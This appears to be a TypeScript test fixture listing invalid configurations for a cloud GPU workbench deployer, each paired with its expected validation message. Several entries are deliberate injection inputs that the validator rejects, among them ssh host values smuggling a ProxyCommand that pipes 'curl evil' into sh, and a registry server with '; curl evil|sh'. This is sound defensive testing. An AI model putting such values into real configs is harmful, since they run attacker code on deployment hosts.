/**
 * The bad-config table: each raw config has exactly one problem, and the exact message the user
 * sees. Used by the parser's unit test and by the program test that checks nothing is registered.
 */
import { badBuildConfigs } from "./badBuildConfigs";
import { DANIEL_KEY, MINJI_KEY, rawConfig } from "./fixtures";

export interface BadConfig {
  why: string;
  raw: unknown;
  /** Region from the provider config; default koreacentral / ap-northeast-2 by target. */
  region?: string | undefined;
  message: string;
}

const aws = (o: Record<string, unknown> = {}) => rawConfig({ target: "aws", size: "g5.xlarge", ...o });
const local = (o: Record<string, unknown> = {}) => {
  const r = rawConfig({ target: "local", apps: [{ kind: "jupyter" }] });
  delete r.size;
  delete r.allowedCidrs;
  return { ...r, ...o };
};
const user = (o: Record<string, unknown>) => ({ name: "daniel", sshPublicKey: DANIEL_KEY, admin: true, ...o });
const app = (o: Record<string, unknown>, extra: Record<string, unknown> = {}) => rawConfig({ apps: [o], ...extra });
const ssh = (o: Record<string, unknown>) => local({ target: "ssh", ...o });
/** The refusal of a list that admits the whole internet (config and policy pack give one answer). */
const FIND_YOURS = "find yours with `curl -s https://checkip.amazonaws.com` (add /32), or use your VPN's egress range";
const internetRefused = (list: string, plural: boolean) =>
  `workbench.allowedCidrs: ${list} ${plural ? "are refused: together they admit" : "is refused: it admits"} the whole internet to SSH, ` +
  `which the policy pack's no-internet-ingress refuses too; list the addresses that connect: ${FIND_YOURS}`;
/** An aws workbench with a Spark cluster (the jupyter-pyspark app is its driver). */
const WORKER_SUBNET = { workerSubnetId: "subnet-0fedcba9876543210" };
const spark = (cluster: unknown, o: Record<string, unknown> = {}) => aws({ apps: [{ kind: "jupyter-pyspark" }], aws: WORKER_SUBNET, cluster, ...o });
/** An azure workbench with a Spark cluster. */
const azureSpark = (o: Record<string, unknown> = {}) => rawConfig({ apps: [{ kind: "jupyter-pyspark" }], cluster: { workers: 2 }, ...o });
const HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM2Xe7akWuUKbDefId+7J/KVvXm35t1buxhlGirgBNuI root@gpu1";
const RSA_1024 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 short@key";

export const badConfigs: BadConfig[] = [
  {
    why: "no workbench key",
    raw: undefined,
    message: "workbench: not set; add the gpu-workbench:workbench key to the stack config (see stacks/ for examples)",
  },
  { why: "workbench is a list", raw: [], message: "workbench: expected a map, got a list" },
  { why: "no target", raw: rawConfig({ target: undefined }), message: "workbench.target: required; set one of azure, aws, softlayer, ssh, local" },
  { why: "unknown target", raw: rawConfig({ target: "gcp" }), message: 'workbench.target: "gcp" is not one of azure, aws, softlayer, ssh, local' },
  {
    why: "softlayer without a datacenter",
    raw: rawConfig({ target: "softlayer", size: undefined }),
    message: "workbench.datacenter: required for target softlayer; set a classic datacenter, e.g. dal10",
  },
  {
    why: "unknown top-level key",
    raw: rawConfig({ gpuCount: 2 }),
    message:
      "workbench.gpuCount: unknown key; valid keys are target, size, os, image, spot, pullCache, osDiskGb, dataDiskGb, allowedCidrs, rdp, users, apps, registries, storage, autoShutdown, tags, hostGpu, idleStop, cluster, access, azure, aws, datacenter, ssh",
  },
  { why: "mis-cased key", raw: rawConfig({ allowedcidrs: ["203.0.113.7/32"] }), message: 'workbench.allowedcidrs: unknown key; did you mean "allowedCidrs"?' },
  {
    why: "misspelt top-level key",
    raw: rawConfig({ autoShutdwn: { time: "19:00" } }),
    message: 'workbench.autoShutdwn: unknown key; did you mean "autoShutdown"?',
  },
  {
    why: "no users",
    raw: rawConfig({ users: undefined }),
    message: "workbench.users: required; list at least one user with name, sshPublicKey and admin: true",
  },
  { why: "empty users", raw: rawConfig({ users: [] }), message: "workbench.users: empty; list at least one user with name, sshPublicKey and admin: true" },
  {
    why: "no admin",
    raw: rawConfig({ users: [{ name: "minji", sshPublicKey: MINJI_KEY }] }),
    message: "workbench.users: no admin; set admin: true on at least one user (the deployer logs in as the first admin)",
  },
  {
    why: "duplicate user",
    raw: rawConfig({ users: [user({}), user({ admin: false })] }),
    message: 'workbench.users[1].name: "daniel" is already used by another user; user names must be unique',
  },
  {
    why: "root",
    raw: rawConfig({ users: [user({ name: "root" })] }),
    message: 'workbench.users[0].name: "root" is reserved by the system or the image; pick another name',
  },
  {
    why: "docker",
    raw: rawConfig({ users: [user({}), user({ name: "docker", admin: false })] }),
    message: 'workbench.users[1].name: "docker" is reserved by the system or the image; pick another name',
  },
  {
    why: "image default user",
    raw: rawConfig({ users: [user({ name: "ubuntu" })] }),
    message: 'workbench.users[0].name: "ubuntu" is reserved by the system or the image; pick another name',
  },
  {
    why: "upper-case name",
    raw: rawConfig({ users: [user({ name: "Daniel" })] }),
    message: 'workbench.users[0].name: "Daniel" is not a valid Linux user name; use 1-32 lowercase letters, digits, "-" or "_", starting with a letter',
  },
  {
    why: "name with a space",
    raw: rawConfig({ users: [user({ name: "dan iel" })] }),
    message: 'workbench.users[0].name: "dan iel" is not a valid Linux user name; use 1-32 lowercase letters, digits, "-" or "_", starting with a letter',
  },
  {
    why: "user without key",
    raw: rawConfig({ users: [user({ sshPublicKey: undefined })] }),
    message: "workbench.users[0].sshPublicKey: expected a non-empty string, got nothing",
  },
  {
    why: "malformed key",
    raw: rawConfig({ users: [user({}), { name: "minji", sshPublicKey: "AAAAC3NzaC1lZDI1NTE5AAAAIPn5 minji" }] }),
    message: 'workbench.users[1].sshPublicKey: not an OpenSSH public key (expected "ssh-ed25519 AAAA...")',
  },
  {
    why: "key type and data disagree",
    raw: rawConfig({ users: [user({ sshPublicKey: DANIEL_KEY.replace("ssh-ed25519", "ssh-rsa") })] }),
    message: 'workbench.users[0].sshPublicKey: not an OpenSSH public key: the key data does not match its type "ssh-rsa"',
  },
  {
    why: "private key pasted",
    raw: rawConfig({ users: [user({ sshPublicKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----" })] }),
    message:
      "workbench.users[0].sshPublicKey: is a private key; paste the public key instead (the one-line content of the .pub file) and rotate this private key if it was shared",
  },
  {
    why: "PEM private key pasted",
    raw: rawConfig({ users: [user({ sshPublicKey: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----" })] }),
    message:
      "workbench.users[0].sshPublicKey: is a private key; paste the public key instead (the one-line content of the .pub file) and rotate this private key if it was shared",
  },
  {
    why: "short RSA key",
    raw: rawConfig({
      users: [
        user({
          sshPublicKey: RSA_1024.replace(
            "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7",
            Buffer.concat([Buffer.from([0, 0, 0, 7]), Buffer.from("ssh-rsa"), Buffer.alloc(140)]).toString("base64"),
          ),
        }),
      ],
    }),
    message: "workbench.users[0].sshPublicKey: RSA key shorter than 2048 bits; use an ed25519 key (ssh-keygen -t ed25519)",
  },
  { why: "admin not a boolean", raw: rawConfig({ users: [user({ admin: "yes" })] }), message: 'workbench.users[0].admin: expected true or false, got "yes"' },
  {
    why: "admin without docker",
    raw: rawConfig({ users: [user({ docker: false })] }),
    message: "workbench.users[0].docker: admins are always in the docker group (sudo can reach Docker anyway); remove docker: false",
  },
  {
    why: "no allowedCidrs on a cloud",
    raw: rawConfig({ allowedCidrs: undefined }),
    message: "workbench.allowedCidrs: required for target azure; list the addresses that may reach SSH, e.g. [203.0.113.7/32] (there is no open default)",
  },
  { why: "empty allowedCidrs", raw: aws({ allowedCidrs: [] }), message: "workbench.allowedCidrs: empty; list at least one address, e.g. [203.0.113.7/32]" },
  {
    why: "malformed CIDR",
    raw: rawConfig({ allowedCidrs: ["203.0.113.7"] }),
    message: 'workbench.allowedCidrs[0]: "203.0.113.7" is not a CIDR (expected e.g. "203.0.113.7/32")',
  },
  {
    why: "octet out of range",
    raw: rawConfig({ allowedCidrs: ["203.0.113.300/32"] }),
    message: 'workbench.allowedCidrs[0]: "203.0.113.300/32" is not a CIDR (expected e.g. "203.0.113.7/32")',
  },
  {
    why: "prefix too long",
    raw: rawConfig({ allowedCidrs: ["203.0.113.7/33"] }),
    message: 'workbench.allowedCidrs[0]: "203.0.113.7/33" is not a CIDR (expected e.g. "203.0.113.7/32")',
  },
  {
    why: "host bits set",
    raw: rawConfig({ allowedCidrs: ["203.0.113.7/24"] }),
    message: 'workbench.allowedCidrs[0]: "203.0.113.7/24" has host bits set; use "203.0.113.0/24"',
  },
  {
    why: "duplicate CIDR",
    raw: rawConfig({ allowedCidrs: ["203.0.113.7/32", "203.0.113.7/32"] }),
    message: 'workbench.allowedCidrs[1]: "203.0.113.7/32" is listed twice; remove one',
  },
  {
    why: "world open with RDP",
    raw: rawConfig({ allowedCidrs: ["0.0.0.0/0"], rdp: true }),
    message: 'workbench.allowedCidrs: "0.0.0.0/0" is refused while rdp is on: RDP takes passwords; list your own addresses instead',
  },
  {
    why: "world open with an exposed app",
    raw: rawConfig({ allowedCidrs: ["0.0.0.0/0"], apps: [{ kind: "rstudio", expose: true }] }),
    message: 'workbench.apps[0].expose: refused while allowedCidrs has "0.0.0.0/0": the app takes a password; list your own addresses in allowedCidrs',
  },
  { why: "world open for SSH", raw: rawConfig({ allowedCidrs: ["0.0.0.0/0"] }), message: internetRefused('"0.0.0.0/0"', false) },
  { why: "IPv6 world open for SSH", raw: rawConfig({ allowedCidrs: ["203.0.113.7/32", "::/0"] }), message: internetRefused('"203.0.113.7/32", "::/0"', true) },
  {
    why: "the internet in two /1s for SSH",
    raw: rawConfig({ allowedCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }),
    message: internetRefused('"0.0.0.0/1", "128.0.0.0/1"', true),
  },
  {
    why: "every public IPv4 address but private space, for SSH",
    raw: rawConfig({ allowedCidrs: ["0.0.0.0/5", "8.0.0.0/7", "11.0.0.0/8", "12.0.0.0/6", "16.0.0.0/4", "32.0.0.0/3", "64.0.0.0/2", "128.0.0.0/1"] }),
    message: internetRefused('"0.0.0.0/5", "8.0.0.0/7", "11.0.0.0/8", "12.0.0.0/6", "16.0.0.0/4", "32.0.0.0/3", "64.0.0.0/2", "128.0.0.0/1"', true),
  },
  { why: "allowedCidrs on local", raw: local({ allowedCidrs: ["203.0.113.7/32"] }), message: "workbench.allowedCidrs: not used by target local; remove it" },
  {
    why: "unknown app kind",
    raw: app({ kind: "zeppelin" }),
    message:
      'workbench.apps[0].kind: "zeppelin" is not one of jupyter, jupyter-pytorch, jupyter-pyspark, kaggle-python, kaggle-r, kaggle-rstudio, rstudio, rstudio-verse, shiny, code-server, custom',
  },
  {
    why: "custom without image",
    raw: app({ kind: "custom", port: 8000 }),
    message: "workbench.apps[0].image: required for a custom app; set a pinned image, e.g. ghcr.io/acme/lab:1.2",
  },
  {
    why: "custom without port",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab:1.2" }),
    message: "workbench.apps[0].port: required for a custom app; set the port the container listens on",
  },
  {
    why: "image without tag",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab", port: 8000 }),
    message: 'workbench.apps[0].image: "ghcr.io/acme/lab" has no tag; pin one, e.g. "ghcr.io/acme/lab:1.0"',
  },
  {
    why: "image latest",
    raw: app({ kind: "jupyter", image: "quay.io/jupyter/scipy-notebook:latest" }),
    message: 'workbench.apps[0].image: "quay.io/jupyter/scipy-notebook:latest" uses the moving tag latest; pin a version tag or digest',
  },
  {
    why: "two apps on one port",
    raw: rawConfig({ apps: [{ kind: "jupyter" }, { kind: "jupyter-pyspark", name: "spark" }] }),
    message: "workbench.apps[1].hostPort: port 8888 is already taken by workbench.apps[0] (jupyter); set a different hostPort",
  },
  {
    why: "duplicate app name",
    raw: rawConfig({ apps: [{ kind: "rstudio" }, { kind: "rstudio", hostPort: 8788 }] }),
    message: 'workbench.apps[1].name: "rstudio" is already used by another app; give one of them a different name',
  },
  {
    why: "app on the SSH port",
    raw: app({ kind: "rstudio", hostPort: 22 }),
    message: "workbench.apps[0].hostPort: 22 is a privileged or reserved port; set hostPort to 1024-65535 (e.g. 8787)",
  },
  {
    why: "app on the RDP port",
    raw: app({ kind: "rstudio", hostPort: 3389 }),
    message: "workbench.apps[0].hostPort: 3389 is a privileged or reserved port; set hostPort to 1024-65535 (e.g. 8787)",
  },
  {
    why: "port out of range",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab:1.2", port: 70000 }),
    message: "workbench.apps[0].port: 70000 is out of range; use 1-65535",
  },
  { why: "port not a number", raw: app({ kind: "rstudio", hostPort: "8787" }), message: 'workbench.apps[0].hostPort: expected a whole number, got "8787"' },
  {
    why: "GPU app on a CPU size",
    raw: rawConfig({ size: "Standard_D4s_v5", apps: [{ kind: "jupyter-pytorch", gpu: true }] }),
    message: "workbench.apps[0].gpu: the host has no GPU; pick a GPU size or remove gpu: true",
  },
  {
    why: "GPU on a CPU-only kind",
    raw: app({ kind: "rstudio", gpu: true }),
    message:
      "workbench.apps[0].gpu: rstudio cannot use a GPU; remove gpu: true or use a GPU kind (jupyter-pytorch, kaggle-python, kaggle-r, kaggle-rstudio, custom)",
  },
  {
    why: "credential set by hand",
    raw: app({ kind: "rstudio", env: { PASSWORD: "hunter2" } }),
    message: "workbench.apps[0].env.PASSWORD: set by the workbench (a generated secret); remove it",
  },
  {
    why: "env value not a string",
    raw: app({ kind: "rstudio", env: { WORKERS: 4 } }),
    message: "workbench.apps[0].env.WORKERS: expected a string, got 4 (quote it in YAML)",
  },
  { why: "OS disk too small", raw: rawConfig({ osDiskGb: 32 }), message: "workbench.osDiskGb: 32 GB is out of range; use 64-4095 GB" },
  { why: "data disk too large", raw: rawConfig({ dataDiskGb: 40000 }), message: "workbench.dataDiskGb: 40000 GB is out of range; use 32-32767 GB" },
  { why: "disk size not whole", raw: rawConfig({ dataDiskGb: 100.5 }), message: "workbench.dataDiskGb: expected a whole number, got 100.5" },
  {
    why: "OS disk too small for Kaggle",
    raw: rawConfig({ osDiskGb: 64, apps: [{ kind: "kaggle-python" }] }),
    message: "workbench.osDiskGb: 64 GB is too small to pull the app images (~22 GB unpacked) beside the system; set it to at least 73",
  },
  {
    why: "unknown Azure size",
    raw: rawConfig({ size: "Standard_NC4as_T4" }),
    message:
      'workbench.size: "Standard_NC4as_T4" is not a size this version knows for target azure; closest: Standard_NC4as_T4_v3, Standard_NC12s_v3, Standard_NC24s_v3',
  },
  {
    why: "AWS size on Azure",
    raw: rawConfig({ size: "g5.xlarge" }),
    message: 'workbench.size: "g5.xlarge" is not a size this version knows for target azure; closest: Standard_D4s_v5, Standard_D8s_v5, Standard_NC6s_v3',
  },
  {
    why: "unknown AWS size",
    raw: aws({ size: "g5.large" }),
    message: 'workbench.size: "g5.large" is not a size this version knows for target aws; closest: g5.xlarge, g5.2xlarge, g5.4xlarge',
  },
  { why: "size on local", raw: local({ size: "big" }), message: "workbench.size: not used by target local; remove it (declare a GPU with hostGpu: true)" },
  {
    why: "autoShutdown bad time",
    raw: rawConfig({ autoShutdown: { time: "7pm", timeZone: "Korea Standard Time" } }),
    message: 'workbench.autoShutdown.time: "7pm" is not a 24-hour time; use "HH:MM", e.g. "19:00"',
  },
  {
    why: "autoShutdown 24:00",
    raw: rawConfig({ autoShutdown: { time: "24:00", timeZone: "UTC" } }),
    message: 'workbench.autoShutdown.time: "24:00" is not a 24-hour time; use "HH:MM", e.g. "19:00"',
  },
  {
    why: "autoShutdown unknown zone",
    raw: rawConfig({ autoShutdown: { time: "19:00", timeZone: "Seoul" } }),
    message:
      'workbench.autoShutdown.timeZone: "Seoul" is not a known time zone; use a Windows id such as "Korea Standard Time" or an IANA name such as "Asia/Seoul" (see components/config/timezones.ts)',
  },
  {
    why: "autoShutdown on local",
    raw: local({ autoShutdown: { time: "19:00", timeZone: "UTC" } }),
    message: "workbench.autoShutdown: not available for target local; remove it",
  },
  { why: "spot on local", raw: local({ spot: true }), message: "workbench.spot: target local has no spot capacity; remove spot or set it to false" },
  { why: "rdp on local", raw: local({ rdp: true }), message: "workbench.rdp: only for cloud targets; on target local install xrdp yourself" },
  { why: "unknown os", raw: rawConfig({ os: "ubuntu-20.04" }), message: 'workbench.os: "ubuntu-20.04" is not one of ubuntu-22.04, ubuntu-24.04' },
  { why: "azure block on aws", raw: aws({ azure: { subnetId: "x" } }), message: "workbench.azure: only for target azure; remove it" },
  {
    why: "bad Azure subnet id",
    raw: rawConfig({ azure: { subnetId: "subnet-1" } }),
    message:
      "workbench.azure.subnetId: not a subnet resource id; expected /subscriptions/<id>/resourceGroups/<rg>/providers/Microsoft.Network/virtualNetworks/<vnet>/subnets/<subnet>",
  },
  {
    why: "bad AWS subnet id",
    raw: aws({ aws: { subnetId: "sn-123" } }),
    message: 'workbench.aws.subnetId: "sn-123" is not a subnet id; expected subnet-0123456789abcdef0',
  },
  {
    why: "AZ outside the region",
    raw: aws({ aws: { availabilityZone: "us-east-1a" } }),
    message: 'workbench.aws.availabilityZone: "us-east-1a" is not in region "ap-northeast-2"; use e.g. "ap-northeast-2a"',
  },
  {
    why: "no Azure location",
    raw: rawConfig(),
    region: "",
    message: "azure-native:location: not set; run pulumi config set azure-native:location <location, e.g. koreacentral>",
  },
  { why: "ssh target without ssh block", raw: local({ target: "ssh" }), message: "workbench.ssh: required for target ssh; set host and hostPublicKey" },
  {
    why: "ssh target without pinned host key",
    raw: local({ target: "ssh", ssh: { host: "gpu1.example.com" } }),
    message:
      "workbench.ssh.hostPublicKey: required: the host's key is pinned, never trusted on first use; read it with ssh-keyscan -t ed25519 <host> over a network you trust, or from /etc/ssh/ssh_host_ed25519_key.pub",
  },
  {
    why: "registry with URL",
    raw: rawConfig({ registries: [{ server: "https://ghcr.io", username: "u", password: "p" }] }),
    message: 'workbench.registries[0].server: "https://ghcr.io" should be a host name only, e.g. ghcr.io',
  },
  {
    why: "registry without password",
    raw: rawConfig({ registries: [{ server: "ghcr.io", username: "u" }] }),
    message: "workbench.registries[0].password: expected a non-empty string, got nothing",
  },
  {
    why: "tag value not a string",
    raw: rawConfig({ tags: { team: "ds", costCenter: 42 } }),
    message: "workbench.tags.costCenter: expected a string, got 42 (quote it in YAML)",
  },
  {
    why: "unknown user key",
    raw: rawConfig({ users: [user({ sudo: true })] }),
    message: "workbench.users[0].sudo: unknown key; valid keys are name, sshPublicKey, admin, docker",
  },
  {
    why: "misspelt user key: the closest declared key of users[], not the nearest by edits (docker)",
    raw: rawConfig({ users: [user({ sshKeyz: "x" })] }),
    message: 'workbench.users[0].sshKeyz: unknown key; did you mean "sshPublicKey"?',
  },

  // Issue 18, class by class. 1: every value in the grammar of where it lands (ssh_config,
  // known_hosts, Docker's ssh URL, the clouds' names and tags, registry hosts, image references).
  {
    why: "ssh target: host with a newline and a ProxyCommand",
    raw: ssh({ ssh: { host: "gpu1.example.com\n  ProxyCommand sh -c 'curl evil|sh'", hostPublicKey: HOST_KEY } }),
    message:
      "workbench.ssh.host: \"gpu1.example.com\\n  ProxyCommand sh -c 'curl evil|sh'\" is not a host name or IP address; use a DNS name such as gpu1.example.com or an address such as 192.0.2.10",
  },
  {
    why: "ssh target: host that reads as an ssh option",
    raw: ssh({ ssh: { host: "-oProxyCommand=sh", hostPublicKey: HOST_KEY } }),
    message:
      'workbench.ssh.host: "-oProxyCommand=sh" is not a host name or IP address; use a DNS name such as gpu1.example.com or an address such as 192.0.2.10',
  },
  {
    why: "ssh target: two hosts",
    raw: ssh({ ssh: { host: "gpu1 gpu2", hostPublicKey: HOST_KEY } }),
    message: 'workbench.ssh.host: "gpu1 gpu2" is not a host name or IP address; use a DNS name such as gpu1.example.com or an address such as 192.0.2.10',
  },
  {
    why: "ssh target: IPv6 with a zone (an ssh_config token)",
    raw: ssh({ ssh: { host: "fe80::1%eth0", hostPublicKey: HOST_KEY } }),
    message: 'workbench.ssh.host: "fe80::1%eth0" is not a host name or IP address; use a DNS name such as gpu1.example.com or an address such as 192.0.2.10',
  },
  {
    why: "ssh target: mistyped IP",
    raw: ssh({ ssh: { host: "203.0.113.300", hostPublicKey: HOST_KEY } }),
    message: 'workbench.ssh.host: "203.0.113.300" is not a host name or IP address; use a DNS name such as gpu1.example.com or an address such as 192.0.2.10',
  },
  {
    why: "ssh target: a second host key on a new line",
    raw: ssh({ ssh: { host: "gpu1.example.com", hostPublicKey: `${HOST_KEY}\n${MINJI_KEY}` } }),
    message: "workbench.ssh.hostPublicKey: not one OpenSSH public key line: it contains the control character U+000A; give exactly one key, on one line",
  },
  {
    why: "Azure location with a newline",
    raw: rawConfig(),
    region: "koreacentral\n  ProxyCommand x",
    message:
      'azure-native:location: "koreacentral\\n  ProxyCommand x" is not an Azure location name; use the lowercase name without spaces, e.g. koreacentral (az account list-locations -o table)',
  },
  {
    why: "Azure location's display name",
    raw: rawConfig(),
    region: "Korea Central",
    message:
      'azure-native:location: "Korea Central" is not an Azure location name; use the lowercase name without spaces, e.g. koreacentral (az account list-locations -o table)',
  },
  {
    why: "AWS region with a newline",
    raw: aws(),
    region: "us-west-2\nx",
    message: 'aws:region: "us-west-2\\nx" is not an AWS region code; use e.g. ap-northeast-2 (aws ec2 describe-regions)',
  },
  {
    why: "AWS region without its number",
    raw: aws(),
    region: "us-west",
    message: 'aws:region: "us-west" is not an AWS region code; use e.g. ap-northeast-2 (aws ec2 describe-regions)',
  },
  {
    why: "resource group with ../ and ;",
    raw: rawConfig({ azure: { resourceGroupName: "../other;rm -rf" } }),
    message:
      'workbench.azure.resourceGroupName: "../other;rm -rf" is not an Azure resource group name; use 1-90 letters, digits, "_", "-", ".", "(" or ")", not ending in "."',
  },
  {
    why: "resource group ending in a period",
    raw: rawConfig({ azure: { resourceGroupName: "lab." } }),
    message:
      'workbench.azure.resourceGroupName: "lab." is not an Azure resource group name; use 1-90 letters, digits, "_", "-", ".", "(" or ")", not ending in "."',
  },
  {
    why: "subnet id with ; in a segment",
    raw: rawConfig({
      azure: { subnetId: "/subscriptions/00000000-0000-4000-8000-000000000000/resourceGroups/rg;x/providers/Microsoft.Network/virtualNetworks/v/subnets/s" },
    }),
    message:
      "workbench.azure.subnetId: not a subnet resource id; expected /subscriptions/<id>/resourceGroups/<rg>/providers/Microsoft.Network/virtualNetworks/<vnet>/subnets/<subnet>",
  },
  {
    why: "registry server with a command",
    raw: rawConfig({ registries: [{ server: "ghcr.io; curl evil|sh", username: "u", password: "p" }] }),
    message: 'workbench.registries[0].server: "ghcr.io; curl evil|sh" is not a registry host; use host[:port], e.g. ghcr.io or registry.example.com:5000',
  },
  {
    why: "registry port out of range",
    raw: rawConfig({ registries: [{ server: "registry.example.com:99999", username: "u", password: "p" }] }),
    message: 'workbench.registries[0].server: "registry.example.com:99999" is not a registry host; use host[:port], e.g. ghcr.io or registry.example.com:5000',
  },
  {
    why: "registry user name with a newline",
    raw: rawConfig({ registries: [{ server: "ghcr.io", username: "acme\nx", password: "p" }] }),
    message: 'workbench.registries[0].username: "acme\\nx" contains the control character U+000A; use printable characters only',
  },
  {
    why: "registry password with a newline, not echoed",
    raw: rawConfig({ registries: [{ server: "ghcr.io", username: "acme", password: "hunter2\n" }] }),
    message: "workbench.registries[0].password: the value contains the control character U+000A; use printable characters only",
  },
  {
    why: "registry password as a number, not echoed",
    raw: rawConfig({ registries: [{ server: "ghcr.io", username: "acme", password: 123456 }] }),
    message: "workbench.registries[0].password: expected a non-empty string, got a number",
  },
  {
    why: "Azure tag name with < > % &",
    raw: rawConfig({ tags: { "cost<center>%&": "x" } }),
    message: 'workbench.tags["cost<center>%&"]: tag name: "cost<center>%&" is not an Azure tag name; use up to 512 characters without < > % & \\ ? /',
  },
  {
    why: "Azure tag name with a reserved prefix",
    raw: rawConfig({ tags: { "Microsoft.Owner": "x" } }),
    message:
      'workbench.tags["Microsoft.Owner"]: tag name: "Microsoft.Owner" starts with a prefix Azure reserves (microsoft, azure, windows); use another tag name',
  },
  {
    why: "AWS tag key with aws:",
    raw: aws({ tags: { "aws:owner": "x" } }),
    message: 'workbench.tags["aws:owner"]: tag name: "aws:owner" starts with aws:, which AWS reserves; use another tag key',
  },
  {
    why: "AWS tag value with ;",
    raw: aws({ tags: { team: "data;rm" } }),
    message: 'workbench.tags.team: "data;rm" is not an AWS tag value; use letters, digits, spaces and _ . : / = + - @',
  },
  {
    why: "tag value with a newline",
    raw: rawConfig({ tags: { team: "data\nscience" } }),
    message: 'workbench.tags.team: "data\\nscience" contains the control character U+000A; use printable characters only',
  },
  {
    why: "tag that replaces the workbench's own",
    raw: rawConfig({ tags: { "gpu-workbench": "x" } }),
    message: 'workbench.tags.gpu-workbench: tag name: "gpu-workbench" is set by the workbench itself; use another tag name',
  },
  {
    why: "AZ that only starts with the region",
    raw: aws({ aws: { availabilityZone: "ap-northeast-2a; x" } }),
    message: 'workbench.aws.availabilityZone: "ap-northeast-2a; x" is not an availability zone name in region "ap-northeast-2"; use e.g. "ap-northeast-2a"',
  },
  {
    why: "AZ with a newline",
    raw: aws({ aws: { availabilityZone: "ap-northeast-2a\nb" } }),
    message: 'workbench.aws.availabilityZone: "ap-northeast-2a\\nb" is not an availability zone name in region "ap-northeast-2"; use e.g. "ap-northeast-2a"',
  },
  {
    why: "two SSH keys joined by \\r",
    raw: rawConfig({ users: [user({ sshPublicKey: `${DANIEL_KEY}\r${MINJI_KEY}` })] }),
    message: "workbench.users[0].sshPublicKey: not one OpenSSH public key line: it contains the control character U+000D; give exactly one key, on one line",
  },
  {
    why: "SSH key with NUL in the comment",
    raw: rawConfig({ users: [user({ sshPublicKey: `${DANIEL_KEY}\u0000x` })] }),
    message: "workbench.users[0].sshPublicKey: not one OpenSSH public key line: it contains the control character U+0000; give exactly one key, on one line",
  },
  {
    why: "SSH key with bytes after the key data",
    raw: rawConfig({ users: [user({ sshPublicKey: DANIEL_KEY.replace("YC ", "YCxx ") })] }),
    message: 'workbench.users[0].sshPublicKey: not an OpenSSH public key (expected "ssh-ed25519 AAAA...")',
  },
  {
    why: "SSH key with authorized_keys options",
    raw: rawConfig({ users: [user({ sshPublicKey: `command="sh" ${DANIEL_KEY}` })] }),
    message: 'workbench.users[0].sshPublicKey: not an OpenSSH public key (expected "ssh-ed25519 AAAA...")',
  },
  {
    why: "image with a newline",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab:1.2\nx", port: 8000 }),
    message: 'workbench.apps[0].image: "ghcr.io/acme/lab:1.2\\nx" is not an image reference (expected e.g. "ghcr.io/acme/lab:1.2")',
  },
  {
    why: "image with ;",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab:1.2;rm", port: 8000 }),
    message: 'workbench.apps[0].image: "ghcr.io/acme/lab:1.2;rm" is not an image reference (expected e.g. "ghcr.io/acme/lab:1.2")',
  },
  {
    why: "image with an upper-case path",
    raw: app({ kind: "custom", image: "ghcr.io/Acme/lab:1.2", port: 8000 }),
    message: 'workbench.apps[0].image: "ghcr.io/Acme/lab:1.2" is not an image reference (expected e.g. "ghcr.io/acme/lab:1.2")',
  },
  {
    why: "env value with NUL",
    raw: app({ kind: "rstudio", env: { NOTE: "a\u0000b" } }),
    message: 'workbench.apps[0].env.NOTE: "a\\u0000b" contains the control character U+0000; use printable characters only',
  },
  {
    why: "env value with a newline",
    raw: app({ kind: "rstudio", env: { NOTE: "a\nb" } }),
    message: 'workbench.apps[0].env.NOTE: "a\\nb" contains the control character U+000A; use printable characters only',
  },
  {
    why: "credential env value with a newline, not echoed",
    raw: app({ kind: "rstudio", env: { HF_TOKEN: "hf_x\n" } }),
    message: "workbench.apps[0].env.HF_TOKEN: the value contains the control character U+000A; use printable characters only",
  },
  {
    why: "command argument with NUL",
    raw: app({ kind: "custom", image: "ghcr.io/acme/lab:1.2", port: 8000, command: ["run", "a\u0000"] }),
    message: 'workbench.apps[0].command[1]: "a\\u0000" contains the control character U+0000; use printable characters (tab and newline are fine)',
  },
  // 2: what allowedCidrs opens is decided on the union, with the CIDR as given named.
  {
    why: "RDP with the internet in two /1s",
    raw: rawConfig({ rdp: true, allowedCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }),
    message:
      'workbench.allowedCidrs: "0.0.0.0/1", "128.0.0.0/1" are refused while rdp is on (together they cover every IPv4 address): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with the internet in four /2s",
    raw: rawConfig({ rdp: true, allowedCidrs: ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"] }),
    message:
      'workbench.allowedCidrs: "0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2" are refused while rdp is on (together they cover every IPv4 address): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with IPv6 in two /1s",
    raw: rawConfig({ rdp: true, allowedCidrs: ["203.0.113.7/32", "::/1", "8000::/1"] }),
    message:
      'workbench.allowedCidrs: "::/1", "8000::/1" are refused while rdp is on (together they cover every public IPv6 address): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with ::/0, named as given",
    raw: rawConfig({ rdp: true, allowedCidrs: ["::/0"] }),
    message: 'workbench.allowedCidrs: "::/0" is refused while rdp is on: RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with the public IPv6 internet",
    raw: rawConfig({ rdp: true, allowedCidrs: ["2000::/3"] }),
    message:
      'workbench.allowedCidrs: "2000::/3" is refused while rdp is on (it covers every public IPv6 address): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with a /8",
    raw: rawConfig({ rdp: true, allowedCidrs: ["203.0.113.7/32", "10.0.0.0/8"] }),
    message:
      'workbench.allowedCidrs: "10.0.0.0/8" is refused while rdp is on (wider than 65536 IPv4 addresses, a /16): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with three /17s",
    raw: rawConfig({ rdp: true, allowedCidrs: ["10.0.0.0/17", "10.1.0.0/17", "10.2.0.0/17"] }),
    message:
